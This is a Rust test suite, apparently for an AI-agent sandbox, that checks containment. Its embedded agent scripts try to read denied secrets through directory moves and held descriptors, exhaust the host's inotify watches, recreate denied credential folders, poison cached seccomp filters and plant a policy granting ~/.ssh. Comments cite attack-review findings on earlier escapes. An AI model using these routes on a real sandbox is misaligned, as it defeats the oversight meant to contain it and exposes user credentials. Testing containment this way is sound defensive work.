    std::fs::write(ws.join("q/r/t.key"), "WS-SECRET-10\n").unwrap();
    let pol = t.policy(
        "[files]\ndeny = [\"app.env\", \"keys\", \"sub/future.key\", \"old/s.txt\", \"way/in/s.key\", \"w2/in/k.key\", \"m/p/s.key\", \"q/r/t.key\"]\n",
    );
    let script = "sleep 1; cat app.env keys/id sub/future.key old/s.txt; ls keys; \
        cat way/in/s.key way.old/in/s.key w2/in/k.key w2.old/in/k.key; \
        cat n3/p/s.key n3/r/t.key; \
        echo mine > old/other; echo made > made.txt; mv sub sub2 2>/dev/null; true";
    let child = t.start_held_with(&["--policy", &pol], script);
    std::fs::write(ws.join("app.env.tmp"), "WS-SECRET-3\n").unwrap();
    std::fs::rename(ws.join("app.env.tmp"), ws.join("app.env")).unwrap();
    std::fs::write(ws.join("keys/id"), "WS-SECRET-4\n").unwrap();
    std::fs::remove_dir_all(ws.join("sub")).unwrap();
    std::fs::create_dir(ws.join("sub")).unwrap();
    std::fs::write(ws.join("sub/future.key"), "WS-SECRET-5\n").unwrap();
    std::fs::rename(ws.join("old"), ws.join("old.bak")).unwrap();
    std::fs::create_dir(ws.join("old")).unwrap();
    std::fs::write(ws.join("old/s.txt"), "WS-SECRET-6\n").unwrap();
    // A directory on the way moved aside and replaced by a symbolic link to it: the denied
    // name went with it, and what the host puts there stays hidden (stop 53's last check),
    // also in a directory the host makes again there.
    std::fs::rename(ws.join("way"), ws.join("way.old")).unwrap();
    std::os::unix::fs::symlink("way.old", ws.join("way")).unwrap();
    std::fs::write(ws.join("way.old/in/s.tmp"), "WS-SECRET-7\n").unwrap();
    std::fs::rename(ws.join("way.old/in/s.tmp"), ws.join("way.old/in/s.key")).unwrap();
    std::fs::rename(ws.join("w2"), ws.join("w2.old")).unwrap();
    std::os::unix::fs::symlink("w2.old", ws.join("w2")).unwrap();
    std::fs::remove_dir_all(ws.join("w2.old/in")).unwrap();
    std::fs::create_dir(ws.join("w2.old/in")).unwrap();
    std::fs::write(ws.join("w2.old/in/k.key"), "WS-SECRET-8\n").unwrap();
    // The denied file's own directory moved into another directory of the workspace, which
    // is reached through another mount than the pin it was watched through (attack review
    // 113, F4): what the host saves there afterwards, and what it saved before the move,
    // stay hidden. (Seen through the workspace guard's walk, whose watches stand once the
    // agent has run a moment.)
    std::thread::sleep(std::time::Duration::from_millis(300));
    std::fs::rename(ws.join("m/p"), ws.join("n3/p")).unwrap();
    std::thread::sleep(std::time::Duration::from_millis(200));
    std::fs::write(ws.join("n3/p/s.tmp"), "WS-SECRET-11\n").unwrap();
    std::fs::rename(ws.join("n3/p/s.tmp"), ws.join("n3/p/s.key")).unwrap();
    std::fs::write(ws.join("q/r/t.tmp"), "WS-SECRET-12\n").unwrap();
    std::fs::rename(ws.join("q/r/t.tmp"), ws.join("q/r/t.key")).unwrap();
    std::thread::sleep(std::time::Duration::from_millis(200));
    std::fs::rename(ws.join("q/r"), ws.join("n3/r")).unwrap();
    let o = t.release(child);
    let s = out(&o);
    for n in 0..=12 {
        let secret = format!("WS-SECRET-{n}");
        assert!(!s.contains(&secret), "{secret} readable:\n{s}");
    }
    assert!(o.status.success(), "{s}");
    for (f, want) in [
        ("app.env", "WS-SECRET-3\n"),
        ("keys/id", "WS-SECRET-4\n"),
        ("sub/future.key", "WS-SECRET-5\n"),
        ("old/s.txt", "WS-SECRET-6\n"),
        ("way/in/s.key", "WS-SECRET-7\n"),
        ("w2/in/k.key", "WS-SECRET-8\n"),
        ("n3/p/s.key", "WS-SECRET-11\n"),
        ("n3/r/t.key", "WS-SECRET-12\n"),
        ("old/other", "mine\n"),
        ("made.txt", "made\n"),
    ] {
        assert_eq!(
            std::fs::read_to_string(ws.join(f)).unwrap(),
            want,
            "{f} on the host:\n{s}"
        );
    }
    // The host's new directory on the way is pinned as the old one was.
    assert!(!ws.join("sub2").exists(), "{s}");
}

/// An agent that takes every inotify instance and watch it may leaves the host's own watchers
/// (editors, IDEs; the same user's limits) the other half, and warden's guard its own: the
/// sandbox's user namespace is capped at a quarter of the user's watches and half of its
/// instances (attack review 109, F3); the guard's walk takes another quarter at most
/// (reviews 112 and 114, F1).
/// Judged from the host while the agent holds them all: the host makes an instance and
/// watches; a denied file the host replaces then is still hidden; the agent got some.
#[test]
fn an_agent_cannot_take_the_users_inotify_budget() {
    let t = T::new("inocap");
    let ws = t.ws.clone();
    std::fs::write(ws.join("app.env"), "INO-SECRET-1\n").unwrap();
    let pol = t.policy("[files]\ndeny = [\"app.env\"]\n");
    let script = r#"exec python3 -c '
import ctypes, os, time
libc = ctypes.CDLL(None, use_errno=True)
os.mkdir("many")
for i in range(2000): os.mkdir("many/%d" % i)
time.sleep(2)
fds = []
while True:
    fd = libc.inotify_init1(0)
    if fd < 0: break
    fds.append(fd)
n = 0
full = False
for fd in fds:
    for i in range(2000):
        if libc.inotify_add_watch(fd, b"many/%d" % i, 0x100) < 0:
            full = True; break
        n += 1
    if full: break
print("instances", len(fds), "watches", n, flush=True)
print("fanotify", open("/proc/sys/user/max_fanotify_groups").read().strip(), open("/proc/sys/user/max_fanotify_marks").read().strip(), flush=True)
open("exhausted", "w").close()
while not os.path.exists("host-done"): time.sleep(0.02)
time.sleep(0.5)
print(open("app.env").read(), flush=True)
'"#;
    let child = t.start_held_with(&["--policy", &pol], script);
    std::fs::write(ws.join("go"), "").unwrap();
    assert!(
        super::common::wait_until(std::time::Duration::from_secs(60), || ws
            .join("exhausted")
            .exists()),
        "the agent never took its inotify budget"
    );
    // The host's own watcher, meanwhile.
    // SAFETY: inotify_init1/add_watch/close on our own descriptor.
    let (ifd, watched) = unsafe {
        let ifd = libc::inotify_init1(libc::IN_CLOEXEC);
        let mut watched = 0;
        if ifd >= 0 {
            for d in ["/tmp", "/etc", "/usr", "/var"] {
                let c = std::ffi::CString::new(d).unwrap();
                if libc::inotify_add_watch(ifd, c.as_ptr(), libc::IN_CREATE) >= 0 {
                    watched += 1;
                }
            }
        }
        (ifd, watched)
    };
    let host_err = std::io::Error::last_os_error();
    std::fs::write(ws.join("app.env.tmp"), "INO-SECRET-2\n").unwrap();
    std::fs::rename(ws.join("app.env.tmp"), ws.join("app.env")).unwrap();
    std::fs::write(ws.join("host-done"), "").unwrap();
    let o = t.release(child);
    if ifd >= 0 {
        // SAFETY: our own descriptor.
        unsafe { libc::close(ifd) };
    }
    let s = out(&o);
    assert!(
        ifd >= 0,
        "the host could not make an inotify instance: {host_err}\n{s}"
    );
    assert_eq!(watched, 4, "the host could not watch: {host_err}\n{s}");
    assert!(o.status.success(), "{s}");
    for n in 1..=2 {
        let secret = format!("INO-SECRET-{n}");
        assert!(!s.contains(&secret), "{secret} readable:\n{s}");
    }
    let read = |f: &str| -> u64 { std::fs::read_to_string(f).unwrap().trim().parse().unwrap() };
    let line = s
        .lines()
        .find(|l| l.starts_with("instances "))
        .unwrap_or_else(|| panic!("no count:\n{s}"));
    let v: Vec<u64> = line
        .split_whitespace()
        .filter_map(|w| w.parse().ok())
        .collect();
    assert!(
        v[0] >= 1 && v[1] >= 1,
        "the agent could not use inotify:\n{s}"
    );
    // A quarter of the watches, half of the instances: the guard's walk, outside that cap,
    // takes another quarter at most (attack review 112, F1: unbounded, the agent's
    // directories took the host's half; review 114, F1: inside the cap, the agent blinded it).
    assert!(
        v[0] <= read("/proc/sys/fs/inotify/max_user_instances") / 2
            && v[1] <= read("/proc/sys/fs/inotify/max_user_watches") / 4,
        "{line}"
    );
    assert_eq!(
        std::fs::read_to_string(ws.join("app.env")).unwrap(),
        "INO-SECRET-2\n"
    );
    // fanotify's the same way, at half (attack review 114, F3).
    let fan: Vec<u64> = s
        .lines()
        .find(|l| l.starts_with("fanotify "))
        .unwrap_or_else(|| panic!("no fanotify limits:\n{s}"))
        .split_whitespace()
        .filter_map(|w| w.parse().ok())
        .collect();
    assert!(
        fan[0] <= read("/proc/sys/fs/fanotify/max_user_groups") / 2
            && fan[1] <= read("/proc/sys/fs/fanotify/max_user_marks") / 2,
        "{fan:?}"
    );
}

/// See [`a_directory_the_host_moves_out_of_the_workspace_is_cut_off`]: `threads MODE WS DIR`
/// holds `DIR` in a thread of its own (`clone`) or behind an exited leader (`zombie`) and,
/// once `WS/moved` exists, reads `new.txt` and plants `planted` there.
const THREAD_HOLDERS: &str = r#"#define _GNU_SOURCE
#include <fcntl.h>
#include <pthread.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>
static int dfd; static const char *mode, *ws;
static void say(const char *a, const char *b) {
  char m[300]; int n = snprintf(m, sizeof m, "%s %s%s", mode, a, b); write(1, m, n);
}
static void ready(void) {
  char m[4096]; snprintf(m, sizeof m, "%s/ready_%s", ws, mode); close(open(m, O_CREAT | O_WRONLY, 0644));
  say("ready", "\n");
}
static void act(void) {
  char marker[4096]; snprintf(marker, sizeof marker, "%s/moved", ws);
  while (access(marker, F_OK)) usleep(20000);
  usleep(500000);
  char buf[100]; int f = openat(dfd, "new.txt", O_RDONLY);
  if (f >= 0) { int n = read(f, buf, 99); if (n > 0) { buf[n] = 0; say("READ ", buf); } }
  f = openat(dfd, "planted", O_CREAT | O_WRONLY, 0644);
  if (f >= 0) { write(f, "AGENT", 5); say("PLANTED", "\n"); }
}
static int cloned(void *a) { (void)a; fchdir(dfd); act(); syscall(SYS_exit_group, 0); return 0; }
static void *worker(void *a) { (void)a; act(); exit(0); }
int main(int c, char **v) {
  if (c < 4) return 2;
  mode = v[1]; ws = v[2];
  dfd = open(v[3], O_DIRECTORY);
  if (dfd < 0) return 3;
  if (!strcmp(mode, "clone")) {
    char *st = malloc(1 << 16);
    if (clone(cloned, st + (1 << 16), CLONE_VM | CLONE_THREAD | CLONE_SIGHAND, 0) < 0) return 4;
    usleep(100000); close(dfd); ready();
    for (;;) pause();
  }
  pthread_t t; pthread_create(&t, 0, worker, 0);
  ready();
  syscall(SYS_exit, 0);
  return 0;
}
"#;

/// A directory of the workspace that the host moves out of it (here into the hidden part of
/// `$HOME`) is not the agent's to read or write through a descriptor or working directory it
/// held there (attack review 112, F2): the processes that hold one are ended as the move is
/// seen. Judged from the host: nothing the host wrote there afterwards in the agent's output,
/// nothing planted there; a directory moved within the workspace stays usable, and the
/// session goes on.
#[test]
fn a_directory_the_host_moves_out_of_the_workspace_is_cut_off() {
    let t = T::new("movedout");
    let ws = t.ws.clone();
    for d in ["c/d", "e/f", "g/h"] {
        std::fs::create_dir_all(ws.join(d)).unwrap();
    }
    std::fs::write(ws.join("c/d/old.txt"), "OLD\n").unwrap();
    std::fs::write(ws.join("g/h/in.txt"), "IN\n").unwrap();
    let archive = t.home.join("archive");
    std::fs::create_dir_all(&archive).unwrap();
    let cwd_holder = r#"import os, sys, time
open(sys.argv[1] + "/ready2", "w").close()
while not os.path.exists(sys.argv[1] + "/moved"): time.sleep(0.02)
time.sleep(0.5)
try:
    print("CWD", os.listdir("."), flush=True)
    open("planted2", "w").write("AGENT")
    print("PLANTED2", flush=True)
except OSError as e: print("cwd", e.errno, flush=True)
"#;
    let fd_holder = r#"import os, sys, time
fd = os.open(sys.argv[1], os.O_DIRECTORY)
while not os.path.exists("ready2"): time.sleep(0.02)
open("ready" + sys.argv[1][0], "w").close()
while not os.path.exists("moved"): time.sleep(0.02)
time.sleep(0.5)
print("LIST", sys.argv[1], sorted(os.listdir(fd)), flush=True)
for n in ["new.txt", "old.txt"]:
    try: print(n, os.read(os.open(n, os.O_RDONLY, dir_fd=fd), 100), flush=True)
    except OSError as e: print(n, e.errno, flush=True)
try:
    os.write(os.open("planted", os.O_CREAT | os.O_WRONLY, 0o644, dir_fd=fd), b"AGENT"); print("PLANTED", sys.argv[1], flush=True)
except OSError as e: print("plant", e.errno, flush=True)
"#;
    // Holders the pass must find in a thread of their own (attack review 113, F2: a thread
    // with its own descriptor table and working directory; F3: a thread-group leader that
    // has exited, whose /proc entries show nothing).
    let src = t.root.join("threads.c");
    std::fs::write(&src, THREAD_HOLDERS).unwrap();
    let st = Command::new("cc")
        .arg(&src)
        .arg("-o")
        .arg(ws.join("threads"))
        .arg("-pthread")
        .status()
        .unwrap();
    assert!(st.success(), "cc threads.c");
    for d in ["t1/d", "t2/d"] {
        std::fs::create_dir_all(ws.join(d)).unwrap();
    }
    // A denied file's directory, pinned on its way, that the host moves below another
    // directory of the workspace while a program works in it (attack review 114, F2: that
    // program still looks up names through the pin).
    for d in ["u/v", "n4"] {
        std::fs::create_dir_all(ws.join(d)).unwrap();
    }
    std::fs::write(ws.join("u/v/s.key"), "MOVED-SECRET-4\n").unwrap();
    let pol = t.policy("[files]\ndeny = [\"u/v/s.key\"]\n");
    let pin_holder = r#"import os, sys, time
w = os.getcwd()
os.chdir("u/v")
open(w + "/ready_pin", "w").close()
while not os.path.exists(w + "/moved"): time.sleep(0.02)
time.sleep(0.5)
try: print("PINREAD", open("s.key").read(), flush=True)
except OSError as e: print("pin", e.errno, flush=True)
"#;
    std::fs::write(ws.join("pin_holder.py"), pin_holder).unwrap();
    std::fs::write(ws.join("cwd_holder.py"), cwd_holder).unwrap();
    std::fs::write(ws.join("fd_holder.py"), fd_holder).unwrap();
    let child = t.start_held_with(
        &["--policy", &pol],
        "w=$PWD; (cd e/f && exec python3 \"$w/cwd_holder.py\" \"$w\") & \
         python3 pin_holder.py & \
         ./threads clone \"$w\" t1/d & ./threads zombie \"$w\" t2/d & \
         (python3 fd_holder.py g/h; echo \"kept rc=$?\") & \
         python3 fd_holder.py c/d; echo \"fd rc=$?\"; wait; echo AFTER",
    );
    std::fs::write(ws.join("go"), "").unwrap();
    assert!(
        super::common::wait_until(std::time::Duration::from_secs(20), || ws
            .join("readyc")
            .exists()
            && ["readyg", "ready_clone", "ready_zombie", "ready_pin"]
                .iter()
                .all(|f| ws.join(f).exists())),
        "the agent never got ready"
    );
    std::fs::rename(ws.join("c"), archive.join("c")).unwrap();
    std::fs::rename(ws.join("e"), archive.join("e")).unwrap();
    for d in ["t1", "t2"] {
        std::fs::rename(ws.join(d), archive.join(d)).unwrap();
        std::fs::write(archive.join(d).join("d/new.txt"), "MOVED-SECRET-T\n").unwrap();
    }
    std::fs::rename(ws.join("g"), ws.join("g2")).unwrap();
    std::fs::rename(ws.join("u/v"), ws.join("n4/v")).unwrap();
    std::thread::sleep(std::time::Duration::from_millis(200));
    std::fs::write(ws.join("n4/v/s.tmp"), "MOVED-SECRET-5\n").unwrap();
    std::fs::rename(ws.join("n4/v/s.tmp"), ws.join("n4/v/s.key")).unwrap();
    std::thread::sleep(std::time::Duration::from_millis(200));
    std::fs::write(archive.join("c/d/new.txt"), "MOVED-SECRET-1\n").unwrap();
    std::fs::write(archive.join("e/f/new.txt"), "MOVED-SECRET-2\n").unwrap();
    std::fs::write(ws.join("moved"), "").unwrap();
    let o = t.release(child);
    let s = out(&o);
    assert!(!s.contains("MOVED-SECRET"), "{s}");
    assert!(!s.contains("PLANTED c/d") && !s.contains("PLANTED2"), "{s}");
    assert!(!s.contains("CWD"), "{s}");
    assert!(!archive.join("c/d/planted").exists(), "{s}");
    assert!(!archive.join("e/f/planted2").exists(), "{s}");
    assert!(!archive.join("t1/d/planted").exists(), "{s}");
    assert!(!archive.join("t2/d/planted").exists(), "{s}");
    assert!(
        s.contains("clone ready") && s.contains("zombie ready"),
        "{s}"
    );
    assert!(s.contains("fd rc=137"), "{s}");
    assert!(
        s.contains("PINREAD"),
        "the program in the moved pin did not read:\n{s}"
    );
    assert!(s.contains("AFTER"), "the session ended:\n{s}");
    // Moved within the workspace: still the agent's.
    assert!(s.contains("LIST g/h ['in.txt']"), "{s}");
    assert!(s.contains("kept rc=0"), "{s}");
    assert_eq!(
        std::fs::read_to_string(ws.join("g2/h/planted")).unwrap(),
        "AGENT"
    );
    assert_eq!(
        std::fs::read_to_string(archive.join("c/d/old.txt")).unwrap(),
        "OLD\n"
    );
}

/// A denied directory in the workspace that the host removes during the session is made
/// again at once (a marked placeholder, hidden), so the agent cannot make its own there and
/// keep a descriptor that reads what the host writes into it later (attack review 109, F2:
/// `rm -rf ~/.aws`, then `aws configure`). Judged from the host: nothing of the host's new
/// secret in the agent's output; the host's new file is there; a denied directory the host
/// removes and leaves removed is gone after the session (the placeholder is swept).
#[test]
fn a_denied_directory_the_host_removes_is_not_the_agents_to_make() {
    let t = T::new("hidwsdir");
    let ws = t.ws.clone();
    std::fs::create_dir_all(ws.join("creds")).unwrap();
    std::fs::write(ws.join("creds/c"), "DIR-SECRET-1\n").unwrap();
    std::fs::create_dir_all(ws.join("gone")).unwrap();
    std::fs::write(ws.join("gone/g"), "DIR-SECRET-2\n").unwrap();
    std::fs::create_dir_all(ws.join("a/b/deep")).unwrap();
    std::fs::create_dir_all(ws.join("x/y/z")).unwrap();
    std::fs::write(ws.join("x/y/z/f"), "DIR-SECRET-5\n").unwrap();
    let pol = t.policy("[files]\ndeny = [\"creds\", \"gone\", \"a/b/deep\", \"x/y/z\"]\n");
    // The agent tries to make each denied directory its own, keeping a descriptor: in
    // its place (`creds`), and where the host moved a directory on the way away
    // (`a`, attack review 110).
    let script = r#"exec python3 -c '
import os, time
while not os.path.exists("removed"): time.sleep(0.02)
time.sleep(0.5)
fds = []
try:
    os.mkdir("creds"); print("MADE creds")
except OSError as e: print("mkdir", e.errno)
try: fds.append(os.open("creds", os.O_DIRECTORY))
except OSError as e: print("open", e.errno)
try:
    os.makedirs("a/b/tmpx"); fds.append(os.open("a/b/tmpx", os.O_DIRECTORY))
    os.rename("a/b/tmpx", "a/b/deep"); print("MADE deep")
except OSError as e: print("deep", e.errno)
open("ready", "w").close()
while not os.path.exists("written"): time.sleep(0.02)
time.sleep(0.5)
for d in fds + ["creds", "a/b/deep"]:
    try:
        for n in os.listdir(d):
            f = os.open(n, os.O_RDONLY, dir_fd=d) if isinstance(d, int) else os.open(os.path.join(d, n), os.O_RDONLY)
            print(n, os.read(f, 100))
    except OSError as e: print("list", e.errno)
'"#;
    let child = t.start_held_with(&["--policy", &pol], script);
    std::fs::remove_dir_all(ws.join("creds")).unwrap();
    std::fs::remove_dir_all(ws.join("gone")).unwrap();
    std::fs::rename(ws.join("a"), ws.join("a.old")).unwrap();
    // A tree holding a denied directory, removed whole: the session goes on (it was
    // ended: "could not hide it again", attack review 110), and the tree stays removed.
    let rm = Command::new("rm")
        .arg("-rf")
        .arg(ws.join("x"))
        .output()
        .unwrap();
    assert!(rm.status.success(), "{}", out(&rm));
    std::fs::write(ws.join("removed"), "").unwrap();
    std::fs::write(ws.join("go"), "").unwrap();
    assert!(
        super::common::wait_until(std::time::Duration::from_secs(20), || ws
            .join("ready")
            .exists()),
        "the agent never got ready"
    );
    std::fs::create_dir_all(ws.join("creds")).unwrap();
    std::fs::write(ws.join("creds/c.tmp"), "DIR-SECRET-3\n").unwrap();
    std::fs::rename(ws.join("creds/c.tmp"), ws.join("creds/c")).unwrap();
    std::fs::create_dir_all(ws.join("a/b/deep")).unwrap();
    std::fs::write(ws.join("a/b/deep/key"), "DIR-SECRET-4\n").unwrap();
    std::fs::write(ws.join("written"), "").unwrap();
    let o = t.release(child);
    let s = out(&o);
    assert!(o.status.success(), "{s}");
    for n in 1..=5 {
        let secret = format!("DIR-SECRET-{n}");
        assert!(!s.contains(&secret), "{secret} readable:\n{s}");
    }
    assert!(
        !s.contains("MADE"),
        "the agent made a denied directory:\n{s}"
    );
    assert_eq!(
        std::fs::read_to_string(ws.join("creds/c")).unwrap(),
        "DIR-SECRET-3\n"
    );
    assert_eq!(
        std::fs::read_to_string(ws.join("a/b/deep/key")).unwrap(),
        "DIR-SECRET-4\n"
    );
    assert!(!ws.join("gone").exists(), "the placeholder stayed:\n{s}");
    assert!(!ws.join("x").exists(), "the placeholders stayed:\n{s}");
}

/// The user's git configuration is shown (git needs the name, aliases and URL rewrites),
/// but not the credentials it holds: a token in a URL rewrite (the usual set-up for private
/// Go modules), an `http.extraHeader`, a tool's `token =`, a file in a subdirectory of
/// `~/.config/git`. Attack review 105: the copy was a mount over the host's file, and a host
/// `git config --global` (a rename) took it away mid-session, showing the real file; the
/// view now holds private copies only. Judged after the host rewrote both files while the
/// agent ran; the host's files keep their content, and git inside still commits as the user.
#[test]
fn credentials_in_the_git_configuration_are_hidden_and_the_rest_works() {
    let t = T::new("gitcreds");
    let text = "[user]\n\tname = Alice Example\n\temail = alice@example.org\n\
        [url \"https://ghp_abcdefghijklmnopqrstuvwxyz0123@github.com/\"]\n\
        \tinsteadOf = https://github.com/\n\
        [http]\n\textraHeader = AUTHORIZATION: basic c2VjcmV0OnZhbHVl\n";
    let host = t.write(".gitconfig", text);
    let xdg = t.write(
        ".config/git/config",
        "[github]\n\ttoken = 0123456789abcdef0123\n",
    );
    t.write(".config/git/sub/x.inc", "[s]\n\ttoken = SUBDIRSECRET42\n");
    let script = "cat ~/.gitconfig ~/.config/git/config ~/.config/git/sub/x.inc; git init -q && \
        git -c commit.gpgsign=false commit --allow-empty -qm x && git log --format='AUTHOR %an'";
    let child = t.start_held(script);
    // The host rewrites both while the session runs, as git does: by rename.
    for f in [&host, &xdg] {
        let st = Command::new("git")
            .env("HOME", &t.home)
            .args(["config", "--file"])
            .arg(f)
            .args(["core.editor", "vi"])
            .status()
            .unwrap();
        assert!(st.success());
    }
    let o = t.release(child);
    let s = ok(&o);
    for secret in [
        "ghp_abcdefghij",
        "c2VjcmV0",
        "0123456789abcdef0123",
        "SUBDIRSECRET42",
    ] {
        assert!(!s.contains(secret), "{secret} readable:\n{}", out(&o));
    }
    assert!(s.contains("AUTHOR Alice Example"), "{}", out(&o));
    assert!(
        s.contains("[url \"https://github.com/\"]"),
        "the rewrite stays, without its token:\n{}",
        out(&o)
    );
    let now = std::fs::read_to_string(&host).unwrap();
    assert!(
        now.starts_with(text) && now.contains("editor = vi"),
        "{now}"
    );
}

#[test]
fn namespaces_mounts_io_uring_and_keyring_are_denied() {
    let t = T::new("syscalls");
    let script = r#"
unshare -r true 2>/dev/null && echo OK-unshare
unshare -rm mount -t tmpfs none /tmp 2>/dev/null && echo OK-unshare-mount
mount -t tmpfs none /tmp 2>/dev/null && echo OK-mount
/usr/bin/python3 - <<'PY'
import ctypes, os
l = ctypes.CDLL(None, use_errno=True)
def sc(nr, *a):
    r = l.syscall(nr, *a)
    return r, ctypes.get_errno()
buf = ctypes.create_string_buffer(256)
r, e = sc(425, 8, buf)            # io_uring_setup
print("io_uring", r, e)
r, e = sc(321, 0, 0, 0)           # bpf
print("bpf", r, e)
r, e = sc(250, 0, 0, 0, 0, 0)     # keyctl
print("keyctl", r, e)
r, e = sc(298, buf, 0, -1, -1, 0) # perf_event_open
print("perf", r, e)
r, e = sc(272, 0x10000000)        # unshare(CLONE_NEWUSER)
print("unshare", r, e)
PY
"#;
    // The first session builds the filters and keeps them in the state directory; the
    // second loads them from there (`warden_sandbox::bpf`): both hold.
    let cached = t.home.join(".local/state/warden/bpf");
    for run in ["built", "cached"] {
        let o = t.sh(script);
        let s = ok(&o);
        assert!(!s.contains("OK-"), "{run}: {}", out(&o));
        assert!(
            s.contains("io_uring -1 38"),
            "{run}: io_uring must be ENOSYS:\n{}",
            out(&o)
        );
        for k in ["bpf -1 1", "keyctl -1 1", "perf -1 1", "unshare -1 1"] {
            assert!(s.contains(k), "{run}: expected `{k}`:\n{}", out(&o));
        }
        let kept = std::fs::read_dir(&cached).map(|d| d.count()).unwrap_or(0);
        assert!(
            kept >= 2,
            "{run}: the filters were not kept in {}",
            cached.display()
        );
    }
}

/// The compiled seccomp programs later sessions load live in warden's state directory
/// (attack review: a policy that made it writable let the agent replace them with
/// "allow everything", and every later default session ran without seccomp or the exec
/// guard). A writable root at or inside a warden directory is refused before anything runs;
/// one that holds it (`~/.local`) leaves it read-only; judged from the host, and by a later
/// default session that still denies what it must.
#[test]
fn warden_state_is_never_writable_by_the_agent() {
    let t = T::new("wardenstate");
    ok(&t.sh("true"));
    let bpf = t.home.join(".local/state/warden/bpf");
    let kept = |d: &Path| -> Vec<(PathBuf, Vec<u8>)> {
        let mut v: Vec<_> = std::fs::read_dir(d)
            .unwrap()
            .map(|e| {
                let p = e.unwrap().path();
                let b = std::fs::read(&p).unwrap();
                (p, b)
            })
            .collect();
        v.sort();
        v
    };
    let before = kept(&bpf);
    assert!(before.len() >= 2, "no cached programs in {}", bpf.display());
    let marker = t.root.join("MARKER");
    let poison = format!(
        "for f in $HOME/.local/state/warden/bpf/*.bpf; do printf 'x' > $f; done; touch {}",
        marker.display()
    );
    for (section, key, entry) in [
        ("files", "write", "~/.local/state/warden/bpf"),
        ("files", "write", "~/.local/state/warden"),
        ("files", "write", "~/.local/state/warden/"),
        ("agent", "state", "~/.local/state/warden"),
        ("files", "cache", "~/.local/state/warden/bpf"),
        ("files", "write", "~/.local/state/../state/warden"),
    ] {
        let pol = t.policy(&format!("[{section}]\n{key} = [\"{entry}\"]\n"));
        let o = t.sh_with(&["--policy", &pol], &poison);
        assert_eq!(
            o.status.code(),
            Some(3),
            "{section}.{key} = {entry}: {}",
            out(&o)
        );
        let err = String::from_utf8_lossy(&o.stderr);
        assert!(
            err.contains(&format!("{section}.{key} entry"))
                && err.contains("warden's own directory"),
            "{}",
            out(&o)
        );
        assert!(
            !marker.exists(),
            "{section}.{key} = {entry}: the command ran"
        );
    }
    // A symlink to it, named as the root: the same directory.
    std::os::unix::fs::symlink(t.home.join(".local/state/warden"), t.home.join("st")).unwrap();
    let pol = t.policy("[files]\nwrite = [\"~/st\"]\n");
    let o = t.sh_with(&["--policy", &pol], &poison);
    assert_eq!(o.status.code(), Some(3), "{}", out(&o));
    assert!(!marker.exists());
    // A root that holds it: the session runs, warden's directory stays read-only in it.
    let pol = t.policy("[files]\nwrite = [\"~/.local\"]\n");
    let o = t.sh_with(
        &["--policy", &pol],
        "for f in $HOME/.local/state/warden/bpf/*.bpf; do printf 'x' > $f 2>/dev/null && echo WROTE; done; \
         rm -rf $HOME/.local/state/warden/bpf 2>/dev/null && echo REMOVED; \
         mv $HOME/.local/state/warden $HOME/.local/state/w2 2>/dev/null && echo MOVED; \
         mv $HOME/.local/state $HOME/.local/s2 2>/dev/null && echo MOVED-PARENT; \
         echo legit > $HOME/.local/legit.txt; true",
    );
    let s = ok(&o);
    assert!(
        !s.contains("WROTE") && !s.contains("REMOVED") && !s.contains("MOVED"),
        "{}",
        out(&o)
    );
    assert_eq!(kept(&bpf), before, "the cached programs changed");
    assert_eq!(
        std::fs::read_to_string(t.home.join(".local/legit.txt")).unwrap(),
        "legit\n",
        "the writable root did not work"
    );
    // Later default sessions load the programs and still deny.
    let o = t.sh("unshare -r true 2>/dev/null && echo OK-unshare; true");
    assert!(!ok(&o).contains("OK-unshare"), "{}", out(&o));
}

/// Attack review 48 on the guard above: warden's directories that do not exist yet, roots
/// reached through symlinks, and `$XDG_STATE_HOME`. Each attempt plants what a later
/// session would trust (a policy granting `~/.ssh`, a file beside the audit store); each is
/// judged from the host, and the same roots named plainly still work.
#[test]
fn warden_dirs_stay_out_of_reach_when_absent_or_behind_symlinks() {
    let t = T::new("wardenabsent");
    let h = t.home.clone();
    std::fs::create_dir_all(h.join(".config")).unwrap();
    let plant = "mkdir -p $HOME/.config/warden 2>/dev/null; \
                 printf '[files]\\nread = [\"~/.ssh\"]\\n' > $HOME/.config/warden/policy.toml 2>/dev/null && echo PLANTED; true";
    // 1. A fresh HOME, and a root that names the state directory through a link that
    //    dangles until warden makes the directory.
    let out_link = t.root.join("out");
    std::os::unix::fs::symlink(h.join(".local/state/warden"), &out_link).unwrap();
    let pol = t.policy(&format!("[files]\nwrite = [\"{}\"]\n", out_link.display()));
    let o = t.sh_with(&["--policy", &pol], "echo RAN");
    assert_eq!(o.status.code(), Some(3), "{}", out(&o));
    assert!(!String::from_utf8_lossy(&o.stdout).contains("RAN"));
    // 2. A root reached through a symlink the agent can rewrite (in the workspace).
    std::os::unix::fs::symlink(h.join("proj-data"), t.ws.join("data")).unwrap();
    std::fs::create_dir_all(h.join("proj-data")).unwrap();
    let pol = t.policy("[files]\nwrite = [\"data\"]\n");
    let o = t.sh_with(&["--policy", &pol], "echo RAN");
    assert_eq!(o.status.code(), Some(3), "{}", out(&o));
    assert!(
        String::from_utf8_lossy(&o.stderr).contains("lies inside the agent-writable"),
        "{}",
        out(&o)
    );
    // 3. `~/.config` writable, `~/.config/warden` absent: it stays absent on the host, also
    //    under a profile that protects nothing of its own (no `extends`).
    let profile = t.root.join("bare-profile.toml");
    std::fs::write(
        &profile,
        "[files]\nsystem = [\"/usr\", \"/bin\", \"/lib\", \"/lib64\", \"/etc\", \"/proc\", \"/dev\"]\nwrite = [\"~/.config\"]\n",
    )
    .unwrap();
    let o = t.sh_with(
        &["--profile", profile.to_str().unwrap()],
        &format!("{plant}; echo ok > $HOME/.config/legit"),
    );
    assert!(!ok(&o).contains("PLANTED"), "{}", out(&o));
    assert!(!h.join(".config/warden/policy.toml").exists());
    assert_eq!(
        std::fs::read_to_string(h.join(".config/legit")).unwrap(),
        "ok\n"
    );
    // 4. The same through the user's own symlink (outside every writable root).
    std::os::unix::fs::symlink(h.join(".config"), h.join("cfg")).unwrap();
    let pol = t.policy("[files]\nwrite = [\"~/cfg\"]\n");
    let o = t.sh_with(
        &["--policy", &pol],
        "mkdir -p $HOME/cfg/warden 2>/dev/null; printf x > $HOME/cfg/warden/policy.toml 2>/dev/null && echo PLANTED; \
         printf x > $HOME/.config/warden/policy.toml 2>/dev/null && echo PLANTED; echo ok > $HOME/cfg/legit2",
    );
    assert!(!ok(&o).contains("PLANTED"), "{}", out(&o));
    assert!(!h.join(".config/warden/policy.toml").exists());
    assert_eq!(
        std::fs::read_to_string(h.join(".config/legit2")).unwrap(),
        "ok\n"
    );
